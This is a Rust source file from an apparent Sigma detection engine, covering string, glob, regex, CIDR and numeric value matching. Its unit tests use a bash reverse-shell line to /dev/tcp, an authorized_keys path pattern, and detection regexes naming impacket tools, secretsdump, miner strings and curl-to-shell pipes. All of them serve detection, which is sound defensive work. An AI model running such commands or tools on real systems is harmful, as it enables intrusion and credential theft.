//! Compiled value tests: string patterns (exact, prefix, suffix, substring, glob), sets of
//! them, regexes, CIDR networks, numeric comparisons, null and exists.
//!
//! Case-insensitive patterns are stored lowercased and run on the field's lowercased text,
//! which the evaluator computes once per field per event with [`lower_into`].

use std::collections::HashSet;
use std::hash::{BuildHasherDefault, Hasher};
use std::net::IpAddr;
use std::sync::Arc;

use aho_corasick::AhoCorasick;
use memchr::memmem;
use regex::Regex;

use crate::modifiers::Part;

/// Lowercase `s` into `out` (cleared first), character by character without context, so that
/// a pattern and a text lowercase the same way.
pub fn lower_into(s: &str, out: &mut String) {
    out.clear();
    if s.is_ascii() {
        out.push_str(s);
        out.make_ascii_lowercase();
    } else {
        for c in s.chars() {
            if c.is_ascii() {
                out.push(c.to_ascii_lowercase());
            } else {
                out.extend(c.to_lowercase());
            }
        }
    }
}

fn lower_bytes(b: &[u8]) -> Vec<u8> {
    match std::str::from_utf8(b) {
        Ok(s) => {
            let mut out = String::new();
            lower_into(s, &mut out);
            out.into_bytes()
        }
        Err(_) => b.to_ascii_lowercase(),
    }
}

/// Where a needle must occur in a field's (lowercased) text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Anchor {
    Anywhere,
    Start,
    End,
    Whole,
    /// At the start of the field's first command-line argument (see
    /// [`crate::argv::first_arg`]).
    FirstArg,
}

/// A literal for the prefilter (lowercased), and where it must occur.
pub type Needle = (Anchor, Vec<u8>);

/// One string pattern.
#[derive(Debug, Clone)]
pub struct StrPat {
    kind: PatKind,
    /// Compared with the raw text (else with the lowercased text).
    pub cased: bool,
}

#[derive(Debug, Clone)]
enum PatKind {
    Exact(Box<[u8]>),
    Prefix(Box<[u8]>),
    Suffix(Box<[u8]>),
    Contains(Box<memmem::Finder<'static>>),
    Glob(Vec<Part>),
    /// `*`: any value.
    Any,
}

impl StrPat {
    /// Compile a Sigma string (already wrapped in `*` for contains/startswith/endswith).
    pub fn new(parts: Vec<Part>, cased: bool) -> StrPat {
        let parts: Vec<Part> = if cased {
            parts
        } else {
            parts
                .into_iter()
                .map(|p| match p {
                    Part::Lit(b) => Part::Lit(lower_bytes(&b)),
                    other => other,
                })
                .collect()
        };
        let kind = match parts.as_slice() {
            [] => PatKind::Exact(Box::default()),
            [Part::Lit(l)] => PatKind::Exact(l.clone().into()),
            [Part::Star] => PatKind::Any,
            [Part::Lit(l), Part::Star] => PatKind::Prefix(l.clone().into()),
            [Part::Star, Part::Lit(l)] => PatKind::Suffix(l.clone().into()),
            [Part::Star, Part::Lit(l), Part::Star] => {
                PatKind::Contains(Box::new(memmem::Finder::new(l).into_owned()))
            }
            _ => PatKind::Glob(parts),
        };
        StrPat { kind, cased }
    }

    /// Whether `text` (raw if `cased`, else lowercased) matches.
    pub fn is_match(&self, text: &[u8]) -> bool {
        match &self.kind {
            PatKind::Exact(l) => text == &l[..],
            PatKind::Prefix(l) => text.starts_with(l),
            PatKind::Suffix(l) => text.ends_with(l),
            PatKind::Contains(f) => f.find(text).is_some(),
            PatKind::Glob(parts) => glob_match(parts, text),
            PatKind::Any => true,
        }
    }

    /// The longest literal that any matching text must contain, lowercased.
    pub fn needle(&self) -> Option<Vec<u8>> {
        let lit: &[u8] = match &self.kind {
            PatKind::Exact(l) | PatKind::Prefix(l) | PatKind::Suffix(l) => l,
            PatKind::Contains(f) => f.needle(),
            PatKind::Glob(parts) => parts
                .iter()
                .filter_map(|p| match p {
                    Part::Lit(b) => Some(b.as_slice()),
                    _ => None,
                })
                .max_by_key(|b| b.len())?,
            PatKind::Any => return None,
        };
        Some(if self.cased {
            lower_bytes(lit)
        } else {
            lit.to_vec()
        })
    }

    /// The literal that a matching text (lowercased) starts with, ends with, or equals.
    pub fn anchored(&self) -> Option<Needle> {
        let (a, l) = match &self.kind {
            PatKind::Exact(l) => (Anchor::Whole, l),
            PatKind::Prefix(l) => (Anchor::Start, l),
            PatKind::Suffix(l) => (Anchor::End, l),
            _ => return None,
        };
        Some((
            a,
            if self.cased {
                lower_bytes(l)
            } else {
                l.to_vec()
            },
        ))
    }

    /// Relative cost of a test (for evaluating cheap tests first).
    pub fn cost(&self) -> u32 {
        match &self.kind {
            PatKind::Exact(_) | PatKind::Prefix(_) | PatKind::Suffix(_) | PatKind::Any => 1,
            PatKind::Contains(_) => 2,
            PatKind::Glob(_) => 3,
        }
    }

    /// The literal of a `contains` pattern (for grouping many of them into one automaton).
    pub fn contains_literal(&self) -> Option<&[u8]> {
        match &self.kind {
            PatKind::Contains(f) => Some(f.needle()),
            _ => None,
        }
    }

    /// The literal of an exact pattern.
    pub fn exact_literal(&self) -> Option<&[u8]> {
        match &self.kind {
            PatKind::Exact(l) => Some(l),
            _ => None,
        }
    }
}

/// Byte length of the UTF-8 character that starts with `b`.
fn char_len(b: u8) -> usize {
    match b {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf7 => 4,
        _ => 1,
    }
}

/// Match a segment (no `*`) at `pos`; returns the end offset.
fn segment_at(seg: &[Part], text: &[u8], mut pos: usize) -> Option<usize> {
    for p in seg {
        match p {
            Part::Lit(l) => {
                if !text.get(pos..)?.starts_with(l) {
                    return None;
                }
                pos += l.len();
            }
            Part::One => {
                let b = *text.get(pos)?;
                pos += char_len(b);
                if pos > text.len() {
                    return None;
                }
            }
            Part::Star => return None,
        }
    }
    Some(pos)
}

/// Wildcard match: segments between `*` placed leftmost-first (optimal, since each segment has
/// a fixed number of characters); the first is anchored at the start and the last at the end.
pub fn glob_match(parts: &[Part], text: &[u8]) -> bool {
    let segs: Vec<&[Part]> = parts.split(|p| matches!(p, Part::Star)).collect();
    let n = segs.len();
    if n == 1 {
        return segment_at(segs[0], text, 0) == Some(text.len());
    }
    let mut pos = match segment_at(segs[0], text, 0) {
        Some(p) => p,
        None => return false,
    };
    for seg in &segs[1..n - 1] {
        if seg.is_empty() {
            continue;
        }
        let mut found = None;
        let mut start = pos;
        while start <= text.len() {
            // Jump to the next occurrence of a leading literal.
            if let Some(Part::Lit(l)) = seg.first() {
                match memmem::find(&text[start..], l) {
                    Some(off) => start += off,
                    None => return false,
                }
            }
            if let Some(end) = segment_at(seg, text, start) {
                found = Some(end);
                break;
            }
            start += 1;
        }
        match found {
            Some(end) => pos = end,
            None => return false,
        }
    }
    let last = segs[n - 1];
    if last.is_empty() {
        return true;
    }
    (pos..=text.len()).any(|s| segment_at(last, text, s) == Some(text.len()))
}

/// An IP network.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Net {
    addr: IpAddr,
    prefix: u8,
}

impl Net {
    /// Parse `10.0.0.0/8`, `fe80::/10` or a single address.
    pub fn parse(s: &str) -> Option<Net> {
        let s = s.trim();
        let (a, p) = match s.split_once('/') {
            Some((a, p)) => (a, Some(p)),
            None => (s, None),
        };
        let addr: IpAddr = a.parse().ok()?;
        let max = if addr.is_ipv4() { 32 } else { 128 };
        let prefix = match p {
            Some(p) => p.parse::<u8>().ok().filter(|p| *p <= max)?,
            None => max,
        };
        Some(Net { addr, prefix })
    }

    /// Whether `ip` (text) lies in the network; IPv4-mapped IPv6 addresses count as IPv4.
    pub fn contains(&self, ip: &str) -> bool {
        let Ok(ip) = ip.trim().parse::<IpAddr>() else {
            return false;
        };
        let ip = match ip {
            IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
            v4 => v4,
        };
        match (self.addr, ip) {
            (IpAddr::V4(n), IpAddr::V4(a)) => {
                let mask = u32::MAX
                    .checked_shl(32 - u32::from(self.prefix))
                    .unwrap_or(0);
                u32::from(n) & mask == u32::from(a) & mask
            }
            (IpAddr::V6(n), IpAddr::V6(a)) => {
                let mask = u128::MAX
                    .checked_shl(128 - u32::from(self.prefix))
                    .unwrap_or(0);
                u128::from(n) & mask == u128::from(a) & mask
            }
            _ => false,
        }
    }
}

/// Literals of which any match of the regex contains at least one, lowercased: the prefix
/// or suffix literal set (whichever has the longer shortest member) when it is finite and
/// holds no empty literal.
pub fn regex_literals(pat: &str, i: bool, m: bool, s: bool) -> RegexLiterals {
    use regex_syntax::hir::literal::{ExtractKind, Extractor};
    let Ok(hir) = regex_syntax::ParserBuilder::new()
        .case_insensitive(i)
        .multi_line(m)
        .dot_matches_new_line(s)
        .build()
        .parse(pat)
    else {
        return RegexLiterals::default();
    };
    let anchored = hir
        .properties()
        .look_set_prefix()
        .contains(regex_syntax::hir::Look::Start);
    let min_len = hir.properties().minimum_len().unwrap_or(0);
    // Literals are compared lowercased: fold case classes ([Pp]) into their lowercase letter,
    // so a case-insensitive regex yields one literal per alternative, not 2^n.
    let hir = crate::factors::fold_case(&hir);
    // More literals than this make the automaton big for little selectivity.
    const MAX_LITERALS: usize = 64;
    /// Lengths to shorten too many literals to, in turn.
    const SHORTENED: [usize; 3] = [4, 3, 2];
    let mut best: Option<Vec<Vec<u8>>> = None;
    let mut anchored_prefixes = None;
    for kind in [ExtractKind::Prefix, ExtractKind::Suffix] {
        let prefix = matches!(kind, ExtractKind::Prefix);
        let mut ex = Extractor::new();
        // Case-insensitive regexes expand into case variants; they lowercase back into few.
        ex.kind(kind).limit_total(4096);
        let seq = ex.extract(&hir);
        let Some(lits) = seq.literals() else { continue };
        if lits.is_empty() || lits.iter().any(|l| l.as_bytes().is_empty()) {
            continue;
        }
        let mut v: Vec<Vec<u8>> = lits.iter().map(|l| lower_bytes(l.as_bytes())).collect();
        v.sort();
        v.dedup();
        // Every match still contains the first (last) bytes of one of its literals.
        for n in SHORTENED {
            if v.len() <= MAX_LITERALS {
                break;
            }
            v = v
                .into_iter()
                .map(|l| {
                    let k = l.len().min(n);
                    if prefix {
                        l[..k].to_vec()
                    } else {
                        l[l.len() - k..].to_vec()
                    }
                })
                .collect();
            v.sort();
            v.dedup();
        }
        if v.len() > MAX_LITERALS {
            continue;
        }
        if prefix && anchored {
            anchored_prefixes = Some(v.clone());
        }
        let shortest = |v: &Vec<Vec<u8>>| v.iter().map(Vec::len).min().unwrap_or(0);
        let better = match &best {
            None => true,
            Some(b) => {
                (shortest(&v).min(8), std::cmp::Reverse(v.len()))
                    > (shortest(b).min(8), std::cmp::Reverse(b.len()))
            }
        };
        if better {
            best = Some(v);
        }
    }
    // Sets of which a match contains one literal each (for item gates): long enough to scan.
    let all_of = crate::factors::required_sets(&hir)
        .into_iter()
        .map(|set| {
            let mut set: Vec<Vec<u8>> = set.iter().map(|l| lower_bytes(l)).collect();
            set.sort();
            set.dedup();
            set
        })
        .filter(|set| set.iter().all(|l| l.len() >= 2))
        .collect();
    // Literals inside the pattern, when they beat its prefixes and suffixes.
    if let Some(mut f) = crate::factors::required(&hir) {
        f = f.iter().map(|l| lower_bytes(l)).collect();
        f.sort();
        f.dedup();
        let score = |v: &Vec<Vec<u8>>| {
            let shortest = v.iter().map(Vec::len).min().unwrap_or(0);
            (shortest.min(8), std::cmp::Reverse(v.len()))
        };
        if best.as_ref().is_none_or(|b| score(&f) > score(b)) {
            best = Some(f);
        }
    }
    RegexLiterals {
        contains: best,
        starts_with: anchored_prefixes,
        min_len,
        all_of,
    }
}

/// What a regex's literals say about the texts it can match (all lowercased).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RegexLiterals {
    /// A match contains one of these.
    pub contains: Option<Vec<Vec<u8>>>,
    /// The regex is anchored at the start of the text, which starts with one of these.
    pub starts_with: Option<Vec<Vec<u8>>>,
    /// A match has at least this many bytes.
    pub min_len: usize,
    /// A match contains one literal of each of these sets.
    pub all_of: Vec<Vec<Vec<u8>>>,
}

/// A compiled regex with what its literals say.
#[derive(Debug, Clone)]
pub struct RegexTest {
    pub re: Regex,
    pub literals: RegexLiterals,
}

/// A numeric comparison.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum NumOp {
    Lt,
    Lte,
    Gt,
    Gte,
}

/// FNV-1a for the short values of [`ValueTest::ExactSet`] (fixed by the rules, not by the
/// events: no need for a keyed hash).
#[derive(Debug, Clone, Copy)]
pub struct Fnv(u64);

impl Default for Fnv {
    fn default() -> Fnv {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
}

impl Hasher for Fnv {
    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0 ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
        }
    }

    fn finish(&self) -> u64 {
        self.0
    }
}

/// One compiled test of a field value.
#[derive(Debug, Clone)]
pub enum ValueTest {
    Str(StrPat),
    /// Any of many substrings (one automaton instead of many scans).
    AnyContains {
        ac: Arc<AhoCorasick>,
        cased: bool,
    },
    /// Any of many exact values.
    ExactSet {
        set: HashSet<Box<[u8]>, BuildHasherDefault<Fnv>>,
        cased: bool,
    },
    /// A regex (run on the raw text).
    Regex(Arc<RegexTest>),
    Cidr(Net),
    Num(NumOp, f64),
    /// The field is absent or null.
    Null,
}

/// A field value, as the tests see it.
#[derive(Debug, Clone, Copy)]
pub struct View<'a> {
    pub present: bool,
    pub null: bool,
    /// Raw text (numbers and booleans as decimal and `true`/`false`).
    pub raw: &'a str,
    /// Lowercased text, when a test asked for it.
    pub lower: &'a str,
    pub int: Option<i64>,
}

impl View<'_> {
    /// The absent field.
    pub const ABSENT: View<'static> = View {
        present: false,
        null: false,
        raw: "",
        lower: "",
        int: None,
    };
}

impl ValueTest {
    /// Whether the test compares the lowercased text.
    pub fn needs_lower(&self) -> bool {
        match self {
            ValueTest::Str(p) => !p.cased,
            ValueTest::Regex(r) => r.literals.starts_with.is_some(),
            ValueTest::AnyContains { cased, .. } | ValueTest::ExactSet { cased, .. } => !cased,
            _ => false,
        }
    }

    pub fn is_match(&self, v: &View<'_>) -> bool {
        if let ValueTest::Null = self {
            return !v.present || v.null;
        }
        if !v.present || v.null {
            return false;
        }
        let text = |cased: bool| if cased { v.raw } else { v.lower };
        match self {
            ValueTest::Str(p) => p.is_match(text(p.cased).as_bytes()),
            ValueTest::AnyContains { ac, cased } => ac.is_match(text(*cased)),
            ValueTest::ExactSet { set, cased } => set.contains(text(*cased).as_bytes()),
            ValueTest::Regex(r) => {
                // A text shorter than any match is rejected without running the regex.
                if v.raw.len() < r.literals.min_len {
                    return false;
                }
                // A start-anchored regex is rejected by its first bytes without running it.
                if let Some(p) = &r.literals.starts_with {
                    let l = v.lower.as_bytes();
                    if !p.iter().any(|p| l.starts_with(p)) {
                        return false;
                    }
                }
                r.re.is_match(v.raw)
            }
            ValueTest::Cidr(n) => n.contains(v.raw),
            ValueTest::Num(op, bound) => {
                let x = match v.int {
                    Some(i) => i as f64,
                    None => match v.raw.trim().parse::<f64>() {
                        Ok(x) => x,
                        Err(_) => return false,
                    },
                };
                match op {
                    NumOp::Lt => x < *bound,
                    NumOp::Lte => x <= *bound,
                    NumOp::Gt => x > *bound,
                    NumOp::Gte => x >= *bound,
                }
            }
            // Present and not null (absent and null returned above).
            ValueTest::Null => false,
        }
    }

    /// Relative cost of the test (for evaluating cheap tests first).
    pub fn cost(&self) -> u32 {
        match self {
            ValueTest::Str(p) => p.cost(),
            ValueTest::AnyContains { .. } => 3,
            ValueTest::ExactSet { .. } | ValueTest::Num(..) | ValueTest::Null => 1,
            ValueTest::Cidr(_) => 4,
            ValueTest::Regex(_) => 20,
        }
    }

    /// Needles (lowercased) of which a matching value contains at least one; `None` when the
    /// test has no required literal.
    pub fn needles(&self) -> Option<Vec<Needle>> {
        let any = |v: Vec<Vec<u8>>| v.into_iter().map(|l| (Anchor::Anywhere, l)).collect();
        match self {
            ValueTest::Str(p) => p.needle().map(|n| vec![(Anchor::Anywhere, n)]),
            ValueTest::Regex(r) => r.literals.contains.clone().map(any),
            _ => None,
        }
    }

    /// Needles anchored at the start or end of the text (or the whole text), of which a
    /// matching value holds one; for literals too short to scan for.
    pub fn anchored_needles(&self) -> Option<Vec<Needle>> {
        match self {
            ValueTest::Str(p) => p.anchored().map(|n| vec![n]),
            ValueTest::Regex(r) => r
                .literals
                .starts_with
                .clone()
                .map(|v| v.into_iter().map(|l| (Anchor::Start, l)).collect()),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::modifiers::sigma_string;

    fn pat(s: &str) -> StrPat {
        StrPat::new(sigma_string(s), false)
    }

    fn m(p: &StrPat, text: &str) -> bool {
        let mut l = String::new();
        lower_into(text, &mut l);
        p.is_match(if p.cased { text } else { &l }.as_bytes())
    }

    #[test]
    fn string_patterns() {
        assert!(m(&pat("/usr/bin/BASH"), "/usr/bin/bash"));
        assert!(!m(&pat("/usr/bin/bash"), "/usr/bin/bash2"));
        assert!(m(&pat("/usr/*"), "/USR/x"));
        assert!(m(&pat("*/nc"), "/bin/nc"));
        assert!(m(&pat("*dev/tcp*"), "bash -i >& /dev/tcp/1.2.3.4/1"));
        assert!(m(&pat("*"), "anything"));
        assert!(m(&pat(""), ""));
        assert!(!m(&pat(""), "x"));
        assert!(m(&pat("/home/*/.ssh/*"), "/home/bob/.ssh/authorized_keys"));
        assert!(!m(&pat("/home/*/.ssh/*"), "/root/.ssh/x"));
        assert!(m(&pat("a?c"), "abc"));
        assert!(m(&pat("a?c"), "aéc"));
        assert!(!m(&pat("a?c"), "ac"));
        assert!(m(&pat("*a*b*c"), "xxaxxbxxc"));
        assert!(!m(&pat("*a*b*c"), "xxaxxcxxb"));
        assert!(m(&pat("ab*ab"), "abab"));
        assert!(!m(&pat("ab*ab"), "aba"));
        let cased = StrPat::new(sigma_string("*Foo*"), true);
        assert!(m(&cased, "xFoo"));
        assert!(!m(&cased, "xfoo"));
        assert_eq!(cased.needle(), Some(b"foo".to_vec()));
        assert_eq!(pat("*/a*long*").needle(), Some(b"long".to_vec()));
        assert_eq!(pat("*").needle(), None);
    }

    #[test]
    fn regex_literals_are_required_substrings() {
        let lits = |p: &str, i: bool| regex_literals(p, i, false, false).contains;
        assert_eq!(
            lits("/inet[46]?/(tcp|udp)/", false).map(|v| v.len()),
            Some(6)
        );
        let l = lits(r#"\btrap\s+['"]"#, false).unwrap();
        assert!(l.iter().all(|x| x.starts_with(b"trap")), "{l:?}");
        let l = lits("CURL.*SH", true).unwrap();
        assert!(l.contains(&b"curl".to_vec()), "{l:?}");
        assert_eq!(lits(".*", false), None);
        assert_eq!(lits("a|.*", false), None);
        // Case classes fold: one literal per alternative.
        let l = lits(
            r"(?i)(impacket-|\b)(psexec|wmiexec|smbexec|atexec|dcomexec|secretsdump)(\.py)?\s",
            false,
        )
        .unwrap();
        assert!(l.contains(&b"psexec".to_vec()) && l.len() <= 64, "{l:?}");
        let l = lits(
            r"(?i)\.(jpe?g|png|gif|bmp|ico|svg|webp|pdf|txt|log|docx?)$",
            false,
        )
        .unwrap();
        assert!(l.len() <= 16 && l.contains(&b".png".to_vec()), "{l:?}");
        // Literals inside the pattern count too.
        let l = lits(r"(?i)\s-a\s+x|stratum\d?\+|\b4[0-9AB]\w{3}", false).unwrap();
        assert!(
            l.contains(&b"-a".to_vec()) && l.contains(&b"4b".to_vec()),
            "{l:?}"
        );
        assert!(l.contains(&b"stratum".to_vec()), "{l:?}");
        assert_eq!(lits(r"a\s*|\d+", false), None);
        let r = regex_literals(r"^\[[^\]]+\]$", false, false, false);
        assert_eq!(r.starts_with, Some(vec![b"[".to_vec()]));
        assert_eq!(regex_literals("a^", false, false, false).starts_with, None);
        // Minimum lengths in bytes (the regex runs on the raw text).
        assert_eq!(
            regex_literals("[^/]{100,}$", false, false, false).min_len,
            100
        );
        assert_eq!(regex_literals("(?i)é|ab", false, false, false).min_len, 2);
        assert_eq!(regex_literals("a*", false, false, false).min_len, 0);
        // Every part of a concatenation gives a set.
        let r = regex_literals(r"\bfind\s.*-EXEC\s+(ba|z)?sh", true, false, false);
        assert!(r.all_of.contains(&vec![b"find".to_vec()]), "{:?}", r.all_of);
        assert!(
            r.all_of.contains(&vec![b"-exec".to_vec()]),
            "{:?}",
            r.all_of
        );
        let r = regex_literals(r"(a|bc)x|y", false, false, false);
        assert_eq!(r.all_of, Vec::<Vec<Vec<u8>>>::new());
    }

    #[test]
    fn lowercase_is_per_character() {
        let mut s = String::new();
        lower_into("ÉCOLE/ΣΑΣ", &mut s);
        assert_eq!(s, "école/σασ");
    }

    #[test]
    fn cidr() {
        let n = Net::parse("10.0.0.0/8").unwrap();
        assert!(n.contains("10.1.2.3"));
        assert!(!n.contains("11.1.2.3"));
        assert!(n.contains("::ffff:10.9.9.9"));
        assert!(!n.contains("not an ip"));
        let n6 = Net::parse("fe80::/10").unwrap();
        assert!(n6.contains("fe80::1"));
        assert!(!n6.contains("2001:db8::1"));
        assert!(Net::parse("0.0.0.0/0").unwrap().contains("8.8.8.8"));
        assert!(Net::parse("1.2.3.4").unwrap().contains("1.2.3.4"));
        assert_eq!(Net::parse("10.0.0.0/33"), None);
        assert_eq!(Net::parse("10.0.0/8"), None);
    }

    #[test]
    fn numbers_and_null() {
        let v = View {
            present: true,
            null: false,
            raw: "443",
            lower: "443",
            int: Some(443),
        };
        assert!(ValueTest::Num(NumOp::Lt, 1024.0).is_match(&v));
        assert!(!ValueTest::Num(NumOp::Gt, 1024.0).is_match(&v));
        assert!(ValueTest::Num(NumOp::Gte, 443.0).is_match(&v));
        assert!(ValueTest::Num(NumOp::Lte, 443.0).is_match(&v));
        let s = View { int: None, ..v };
        assert!(ValueTest::Num(NumOp::Lt, 1024.0).is_match(&s));
        assert!(!ValueTest::Null.is_match(&v));
        assert!(ValueTest::Null.is_match(&View::ABSENT));
    }
}
